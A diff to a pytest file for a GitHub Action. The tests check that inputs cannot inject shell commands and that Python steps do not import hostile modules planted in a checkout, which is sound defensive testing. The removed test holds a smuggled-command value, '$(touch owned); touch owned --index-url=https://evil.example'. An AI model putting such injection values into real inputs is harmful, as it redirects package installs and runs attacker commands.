@@ -12,6 +12,8 @@ import pytest
 import yaml
 from environments import SPEC, clean_environment, once
 
+import hostile_folder
+
 ROOT = Path(__file__).parents[2]
 ACTION = yaml.safe_load((ROOT / "action.yml").read_text("utf-8"))
 INPUTS = {name: said["default"] for name, said in ACTION["inputs"].items()}
@@ -45,20 +47,24 @@ def checkout(tmp_path: Path, sources: Path) -> Path:
 
 
 def step(
-    said: dict[str, Any], runner: Path, workspace: Path, inputs: dict[str, str]
+    said: dict[str, Any],
+    runner: Path,
+    workspace: Path,
+    inputs: dict[str, str],
+    action: Path | None = None,
 ) -> subprocess.CompletedProcess[str]:
     """Do a step as a runner does: expressions are replaced in what isn't the script."""
     given = {**INPUTS, **inputs}
     own = {
         name: EXPRESSION.sub(lambda found: given[found[1]], value)
-        for name, value in said["env"].items()
+        for name, value in said.get("env", {}).items()
     }
     script = runner / "step.sh"
     script.write_text(said["run"], "utf-8")
     outside = {
         "RUNNER_TEMP": str(runner),
         "GITHUB_WORKSPACE": str(workspace),
-        "GITHUB_ACTION_PATH": str(runner.parent / "sources"),
+        "GITHUB_ACTION_PATH": str(action or runner.parent / "sources"),
         "PIP_NO_COMPILE": "1",
     }
     return subprocess.run(
@@ -76,7 +82,9 @@ def test_no_script_has_an_expression_in_it() -> None:
         assert said["shell"] == "bash"
         assert "${{" not in said["run"]
         assert set(said) <= {"name", "shell", "env", "run"}
-        assert all(EXPRESSION.fullmatch(value) for value in said["env"].values())
+        assert all(
+            EXPRESSION.fullmatch(value) for value in said.get("env", {}).values()
+        )
     used = [EXPRESSION.findall(str(said)) for said in ACTION["runs"]["steps"]]
     assert sorted(name for names in used for name in names) == sorted(INPUTS)
 
@@ -115,15 +123,32 @@ def test_no_input_is_run(name: str, hostile: str, runner: Path, checkout: Path) 
     assert list(checkout.rglob("owned")) == []
 
 
-def test_a_version_is_nothing_but_a_version(tmp_path: Path) -> None:
-    hostile = "$(touch owned); touch owned --index-url=https://evil.example"
+def test_each_python_is_isolated() -> None:
+    scripts = "\n".join(said["run"] for said in ACTION["runs"]["steps"])
 
-    done = step(INSTALL, tmp_path, tmp_path, {"version": hostile})
+    starts = re.findall(r"\b(?:python3?|pip)\b\"? (\S+)", scripts)
+    assert starts == ["-I", "-I", "install", "-I"]
 
-    assert done.returncode != 0
-    assert "isn't a version" in done.stdout
-    assert not (tmp_path / "naftiko-gen").exists()
-    assert not (tmp_path / "owned").exists()
+
+def test_nothing_of_the_checkout_is_imported(
+    tmp_path: Path, checkout: Path, sources: Path
+) -> None:
+    root = tmp_path / "runner"
+    root.mkdir()
+    hostile_folder.fill(checkout / "services" / "two words")
+    hostile_folder.fill(checkout, (*hostile_folder.MODULES, "hatchling"))
+    index = "[global]\nindex-url = http://127.0.0.1:9/simple\n"
+    (checkout / "pip.conf").write_text(index, "utf-8")
+    (checkout / "pyvenv.cfg").write_text("home = .\n", "utf-8")
+
+    installed = step(INSTALL, root, checkout, {}, sources)
+    inputs = {"working-directory": "services/two words"}
+    checked = step(CHECK, root, checkout, inputs, sources)
+
+    assert installed.returncode == 0, installed.stderr
+    assert "title=outdated-package::" in checked.stdout, checked.stderr
+    assert hostile_folder.imported(checkout) == []
+    assert hostile_folder.imported(checkout / "services" / "two words") == []
 
 
 def test_quotes_that_do_not_match_fail(runner: Path, checkout: Path) -> None:
